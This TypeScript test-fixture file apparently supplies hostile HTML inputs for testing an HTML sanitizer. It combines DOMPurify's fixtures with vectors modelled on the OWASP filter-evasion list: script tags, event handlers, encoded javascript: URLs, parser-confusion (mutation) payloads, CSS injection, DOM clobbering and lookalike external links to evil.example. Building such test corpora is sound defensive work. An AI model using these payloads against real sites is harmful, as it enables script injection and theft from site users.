import { createRequire } from 'node:module'

// Markup designed to run scripts: DOMPurify's fixtures from its npm package, and our own vectors after the OWASP filter
// evasion list and newer fixtures. Vectors call `xss()` or `alert()`. None contains a NUL character, because the server
// rejects text with one.

const require = createRequire(import.meta.url)
/** Version 0.8.0 is the last one published with fixtures. */
const dompurify: readonly { payload: string }[] = require('dompurify-fixtures/test/fixtures/expect.js')

const WELL_KNOWN: readonly string[] = [
  '<script>xss()</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>xss()</scr</script>ipt>',
  '<script/xss src="//evil.example/x.js"></script>',
  '<<script>xss();//<</script>',
  '<script>xss()</script',
  '<script\n>xss()</script\n>',
  '</script><script>xss()</script>',
  '<script type="module">xss()</script>',
  '<script>/*<p>*/xss()//</p></script>',
  '<img src=x onerror=xss()>',
  '<img src=x onerror="xss()"//',
  '<IMG """><SCRIPT>xss()</SCRIPT>"\\>',
  '<img src=x:x onerror=&#120;&#115;&#115;&#40;&#41;>',
  '<img src="jav\tascript:xss()">',
  '<img src=`javascript:xss()`>',
  '<img/src="x"/onerror="xss()">',
  '<img src=1 href=1 onerror="javascript:xss()"></img>',
  '<img srcset="x 1x, y 2x" onerror=xss()>',
  '<img src onerror /" \'"= alt=xss()//">',
  '<image src=x onerror=xss()>',
  '<a href="javascript:xss()">a</a>',
  '<a href="JaVaScRiPt:xss()">a</a>',
  '<a href=" &#14; javascript:xss()">a</a>',
  '<a href="java&#x09;script:xss()">a</a>',
  '<a href="java\nscript:xss()">a</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()">a</a>',
  '<a href="\u0001javascript:xss()">a</a>',
  '<a href="javascript&colon;xss()">a</a>',
  '<a href="data:text/html,<script>xss()</script>">a</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==">a</a>',
  '<a href="vbscript:xss()">a</a>',
  '<a href="blob:https://evil.example/x">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="\\\\evil.example">a</a>',
  '<a onmouseover="xss()">a</a>',
  '<a href="#" onclick=xss() onfocus=xss() autofocus tabindex=1>a</a>',
  '<a href="x" target="_blank" rel="opener" ping="//evil.example" download>a</a>',
  '<a href=\'javascript:xss()//\' style="position:fixed;inset:0">a</a>',
  '<p style="background:url(javascript:xss())">a</p>',
  '<p style="width:expression(xss())">a</p>',
  '<p onpointerenter=xss() id=x name=y data-x=1>a</p>',
  '<p class="note nav sheet" onclick=xss()>a</p>',
  '<style>@import "//evil.example/x.css";</style>',
  '<style><img src=x onerror=xss()></style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
  '<base href="//evil.example/">',
  '<iframe src="javascript:xss()"></iframe>',
  '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
  '<frameset><frame src="javascript:xss()"></frameset>',
  '<object data="javascript:xss()"></object>',
  '<embed src="javascript:xss()">',
  '<applet code="x"></applet>',
  '<svg onload=xss()>',
  '<svg/onload=xss()//',
  '<svg><script>xss()</script></svg>',
  '<svg><a xlink:href="javascript:xss()"><text x=20 y=20>a</text></a></svg>',
  '<svg><animate onbegin=xss() attributeName=x dur=1s>',
  '<svg><set attributeName="href" to="javascript:xss()"></svg>',
  '<svg><style><img src=x onerror=xss()></style></svg>',
  '<svg><foreignObject><img src=x onerror=xss()></foreignObject></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=xss()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=xss()&gt;">',
  '<math><mi//xlink:href="data:x,<script>xss()</script>">',
  '<math href="javascript:xss()">a</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=xss()>',
  '<noscript><p title="</noscript><img src=x onerror=xss()>">',
  '<textarea><img src=x onerror=xss()></textarea>',
  '<title><img src=x onerror=xss()></title>',
  '<xmp><img src=x onerror=xss()></xmp>',
  '<noembed><img src=x onerror=xss()></noembed>',
  '<plaintext><img src=x onerror=xss()>',
  '<template><img src=x onerror=xss()></template>',
  '<template shadowrootmode="open"><script>xss()</script></template>',
  '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=xss()>">',
  '<form action="javascript:xss()"><button>a</button></form>',
  '<button formaction="javascript:xss()">a</button>',
  '<input autofocus onfocus=xss()>',
  '<isindex type=image src=1 onerror=xss()>',
  '<video><source onerror="xss()"></video>',
  '<audio src=x onerror=xss()></audio>',
  '<details open ontoggle=xss()><summary>a</summary></details>',
  '<marquee onstart=xss()>a</marquee>',
  '<body onload=xss()>',
  '<div style="animation:x" onanimationstart=xss()>a</div>',
  '<table background="javascript:xss()"><td background="javascript:xss()">a</table>',
  '<!--><img src=x onerror=xss()>-->',
  '<!-- --!><img src=x onerror=xss()>',
  '<![CDATA[><img src=x onerror=xss()>]]>',
  '<?xml version="1.0"?><img src=x onerror=xss()>',
  '<!DOCTYPE x [<!ENTITY a "<script>xss()</script>">]>&a;',
  '&lt;img src=x onerror=xss()&gt;&lt;script&gt;xss()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;xss()&amp;lt;/script&amp;gt;',
  '<custom-element onclick=xss()><slot onslotchange=xss()></custom-element>',
  '<p is="x-evil">a</p><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em><em>deep',
  `${'<blockquote>'.repeat(300)}<img src=x onerror=xss()>`,
  '<a href="https://ok.example" <img src=x onerror=xss()>">a</a>',
  '<p title="<img src=x onerror=xss()>" "<script>xss()</script>">a</p>',
  '<a href="?javascript:alert(1)" onclick\u000b=xss()>a</a>',
  '<svg><p><style><g title="</style><img src=x onerror=xss()>"></svg>',
  '<b><i><u><s><big><font color=red face="x" onclick=xss()>a</font></big></s></u></i></b>',
]

/** Event handlers of current and old browsers, SVG and media. */
const HANDLERS =
  'onabort onactivate onafterprint onanimationcancel onanimationend onanimationiteration onanimationstart onauxclick onbeforecopy onbeforecut onbeforeinput onbeforematch onbeforepaste onbeforeprint onbeforetoggle onbeforeunload onbegin onblur onbounce oncancel oncanplay oncellchange onchange onclick onclose oncontentvisibilityautostatechange oncontextmenu oncopy oncuechange oncut ondataavailable ondblclick ondrag ondragend ondragenter ondragleave ondragover ondragstart ondrop ondurationchange onemptied onend onended onerror onerrorupdate onfilterchange onfinish onfocus onfocusin onfocusout onformdata onfullscreenchange ongesturestart ongotpointercapture onhashchange onhelp oninput oninvalid onkeydown onkeypress onkeyup onlayoutcomplete onload onloadeddata onloadedmetadata onloadend onloadstart onlosecapture onlostpointercapture onmessage onmousedown onmouseenter onmouseleave onmousemove onmouseout onmouseover onmouseup onmousewheel onoffline ononline onpagehide onpageshow onpaste onpause onplay onplaying onpointercancel onpointerdown onpointerenter onpointerleave onpointermove onpointerout onpointerover onpointerrawupdate onpointerup onpopstate onprogress onpropertychange onratechange onreadystatechange onrepeat onreset onresize onrowsenter onscroll onscrollend onscrollsnapchange onsearch onsecuritypolicyviolation onseeked onseeking onselect onselectionchange onselectstart onshow onslotchange onstalled onstart onstop onstorage onsubmit onsuspend ontimeerror ontimeupdate ontoggle ontouchcancel ontouchend ontouchmove ontouchstart ontransitioncancel ontransitionend ontransitionrun ontransitionstart onunload onvolumechange onwaiting onwebkitanimationend onwebkitmouseforceup onwheel onzoom'.split(
    ' ',
  )

const handlers = HANDLERS.flatMap((name, index) => {
  const allowed = ['p', 'a href="/x"', 'li', 'blockquote', 'code', 'h2'][index % 6]
  const foreign = ['img src=x', 'svg', 'body', 'video src=x', 'div', 'input autofocus', 'x-y'][index % 7]
  return [`<${allowed} ${name}=xss()>a`, `<${foreign}/${name.toUpperCase()} = "xss()">`]
})

const RUN = 'javascript:xss()'
const encoded = (as: (code: number) => string) =>
  [...RUN].map((character) => as(character.charCodeAt(0))).join('')
const hex = (code: number) => code.toString(16)

/** Obfuscated spellings of a URL that runs a script. */
const SPELLINGS = [
  RUN,
  RUN.toUpperCase(),
  encoded((code) => `&#${code};`),
  encoded((code) => `&#${code}`),
  encoded((code) => `&#${String(code).padStart(7, '0')}`),
  encoded((code) => `&#x${hex(code)};`),
  encoded((code) => `&#X${hex(code).toUpperCase().padStart(6, '0')}`),
  encoded((code) => `%${hex(code)}`),
  encoded((code) => `\\u00${hex(code)}`),
  encoded((code) => `\\${hex(code)} `),
  encoded((code) => `&amp;#${code};`),
  `\`${RUN}\``,
  ...[
    '\t',
    '\n',
    '\r',
    '&#0;',
    '&#9;',
    '&#x0A;',
    '&#xD;',
    '&Tab;',
    '&NewLine;',
    '\u00ad',
    '/**/',
    '<!-- -->',
  ].map((inside) => `java${inside}script:xss()`),
  ...['&colon;', '&#58', '&#x3a;', ' :', '\t:'].map((colon) => `javascript${colon}xss()`),
  ...Array.from({ length: 33 }, (_, code) => `&#${code};${RUN}`),
  ...[
    '\u0001',
    '\u001f',
    '\u00a0',
    '\u1680',
    '\u180e',
    '\u200b',
    '\u2028',
    '\u2029',
    '\u205f',
    '\u3000',
    '\ufeff',
  ].map((before) => before + RUN),
  ...['feed', 'view-source', 'jar', 'mhtml', 'x', 'http', ''].map((scheme) => `${scheme}:${RUN}`),
  ...['vbscript', 'livescript', 'mocha', 'javascript1.5', 'x-javascript', 'script'].map(
    (scheme) => `${scheme}:xss()`,
  ),
  'data:text/html,&lt;script&gt;xss()&lt;/script&gt;',
  'data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==',
  'DaTa:image/svg+xml,%3Csvg%20onload=xss()%3E',
  'data:,x',
  'file:///etc/passwd',
  'filesystem:https://evil.example/temporary/x',
  'blob:https://evil.example/x',
  'intent://evil.example#Intent;end',
  'ws://evil.example',
  'javascript://evil.example/%0Axss()',
]

const spellings = SPELLINGS.flatMap((address) => [
  `<a href="${address}">a</a>`,
  `<p><a title=x href=${address.replaceAll(/\s/g, '&#9;')}>a</p>`,
])

/** Attributes whose URL is followed or loaded. An article body may only contain links. */
const PLACES = [
  'img src',
  'img dynsrc',
  'img lowsrc',
  'img longdesc',
  'img srcset',
  'input type=image src',
  'iframe src',
  'iframe srcdoc',
  'frame src',
  'object data',
  'object classid',
  'object codebase',
  'embed src',
  'applet code',
  'applet archive',
  'form action',
  'button formaction',
  'input type=submit formaction',
  'isindex action',
  'body background',
  'table background',
  'td background',
  'bgsound src',
  'link rel=stylesheet href',
  'link rel=import href',
  'link rel=prefetch href',
  'base href',
  'area href',
  'script src',
  'script href',
  'audio src',
  'video poster',
  'source src',
  'track src',
  'portal src',
  'blockquote cite',
  'q cite',
  'a ping',
  'a xlink:href',
  'a xml:base',
  'html manifest',
  'layer src',
  'ilayer src',
  'xml src',
  'x href',
  'meta http-equiv=refresh content',
  'meta http-equiv=Link content',
  'meta http-equiv=Set-Cookie content',
  'svg><a xlink:href',
  'svg><use href',
  'svg><image href',
  'svg><feImage xlink:href',
  'svg><script href',
  'svg><animate attributeName=href values',
  'svg><set attributeName=xlink:href to',
  'svg><handler ev:event=load href',
  'math><maction actiontype=statusline xlink:href',
  'math xlink:href',
]

const places = PLACES.flatMap((place) =>
  [RUN, '//evil.example/x', 'data:text/html,x'].map((address) => `<${place}="${address}">a`),
)

/** Elements whose content one parser reads as text and another as markup. */
const RAW =
  'style title textarea noscript xmp noembed noframes iframe template plaintext listing comment option select'.split(
    ' ',
  )
const AROUND = [
  '',
  '<svg>',
  '<svg></p>',
  '<svg><desc>',
  '<svg><foreignObject><p>',
  '<math>',
  '<math></br>',
  '<math><mtext><table><mglyph>',
  '<math><annotation-xml encoding="text/html"><p>',
  '<form><math><mtext></form><form><mglyph>',
  '<select><template>',
  '<p><x-y>',
]

const confusions = AROUND.flatMap((around) =>
  RAW.flatMap((raw) => [
    `${around}<${raw}><a title="</${raw}><img src=x onerror=xss()>">`,
    `${around}<${raw}><!--</${raw}><p title="--&gt;&lt;img src=x onerror=xss()&gt;">`,
  ]),
)

const quotes = [
  'a=">"',
  '=">"',
  'a=">" \'\'',
  '"a=\'>\'"',
  'a=`>`',
  'a=">\'>"',
  '/>',
  '\u000b',
  '<b>',
].flatMap((odd) => [
  `<script ${odd} src="//evil.example/x.js"></script>`,
  `<img ${odd} src=x onerror=xss()>`,
  `<a ${odd} href="${RUN}">a</a>`,
  `<p ${odd} onclick=xss()>a`,
])

const styles = [
  'background:url(//evil.example/x)',
  `background-image:url('${RUN}')`,
  'background-image:\\0075\\0072\\006C\\0028//evil.example\\0029',
  'width:expr/**/ession(xss())',
  'behavior:url(x.htc)',
  '-moz-binding:url(//evil.example/x.xml#x)',
  '-o-link:"javascript:xss()";-o-link-source:current',
  'content:url(//evil.example/x.svg)',
  'list-style:url(//evil.example/x)',
  'position:fixed;inset:0;z-index:9999',
  'filter:url("data:image/svg+xml,<svg/>#x")',
  'color:red;}@import//evil.example;{',
].flatMap((style) => [
  `<p style='${style}'>a`,
  `<a href="/x" style='${style}'>a</a>`,
  `<style>p{${style}}</style>`,
  `<svg><style>*{${style}}</style></svg>`,
])

/** Ids and names that can shadow DOM properties that scripts rely on. */
const clobbering =
  'attributes body children childNodes cookie createElement currentScript forms getElementById head implementation location nodeName nodeType parentNode removeChild root setAttribute state submit'
    .split(' ')
    .flatMap((name) => [`<a id=${name} name=${name} href="/x">a</a>`, `<p id="${name}" class="${name}">a`])

/** Links to other sites that look internal. They are allowed and must be marked as external. */
const away = [
  'http://1113982867/',
  'http://0x42.0x66.0x7.0x93/',
  'http://0102.0146.0007.00000223/',
  'http://%65vil.example/',
  'http:\\\\evil.example\\x',
  'HTTPS:evil.example',
  'h\ttt\np://evil.example/',
  '/\\evil.example',
  '\\/evil.example',
  '/\t/evil.example',
  '///evil.example',
  'https://user:word@evil.example/',
  'https://evil.example./',
  'mailto:a@b.example?subject=<script>xss()</script>',
].map((address) => `<a href='${address}'>a</a>`)

const otherLanguages = [
  '<!--[if gte IE 4]><script>xss()</script><![endif]-->',
  '<![if !IE]><img src=x onerror=xss()><![endif]>',
  '<!--#exec cmd="/bin/echo \'<SCR\'"--><!--#exec cmd="/bin/echo \'IPT>xss()</SCRIPT>\'"-->',
  '<? echo("<SCR"); echo("IPT>xss()</SCRIPT>"); ?>',
  '<% response.write "<script>xss()</script>" %>',
  '<xml id=i><b><img src="javas<!-- -->cript:xss()"></b></xml><p datasrc="#i" datafld="b" dataformatas="html">a',
  '<html><?import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" to="<img src=x onerror=xss()>">',
  '<meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-script+AD4-xss()+ADw-/script+AD4-',
  '\u00bcscript\u00bexss()\u00bc/script\u00be',
  '{{constructor.constructor("xss()")()}}<p v-on:click="xss()" ng-click="xss()" x-data="xss()" hx-get="/x">a',
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+xss()//'>`,
  '<p contenteditable accesskey=x tabindex=1 popover draggable=true is=x slot=x part=x itemprop=x nonce=x>a',
  '<p dangerouslysetinnerhtml="{}" ref=x key=x suppresshydrationwarning data-reactroot>a',
  '\u202e<a href="/x">\u202dtpircs\u202c</a>',
]

export const HOSTILE_HTML: readonly string[] = [
  ...new Set([
    ...WELL_KNOWN,
    ...dompurify.map(({ payload }) => payload),
    ...handlers,
    ...spellings,
    ...places,
    ...confusions,
    ...quotes,
    ...styles,
    ...clobbering,
    ...away,
    ...otherLanguages,
  ]),
]
